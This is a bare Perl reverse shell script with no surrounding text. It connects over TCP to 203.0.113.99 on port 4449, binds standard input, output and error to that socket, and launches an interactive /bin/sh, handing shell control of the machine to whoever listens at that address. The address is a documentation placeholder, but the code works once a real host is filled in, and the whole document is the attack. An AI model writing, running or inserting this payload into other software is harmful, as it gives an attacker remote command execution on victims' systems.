use strict;
use Socket;

my $ip   = '203.0.113.99';
my $port = 4449;
socket(my $S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
if (connect($S, sockaddr_in($port, inet_aton($ip)))) {
    open(STDIN,  '>&', $S);
    open(STDOUT, '>&', $S);
    open(STDERR, '>&', $S);
    exec('/bin/sh -i');
}
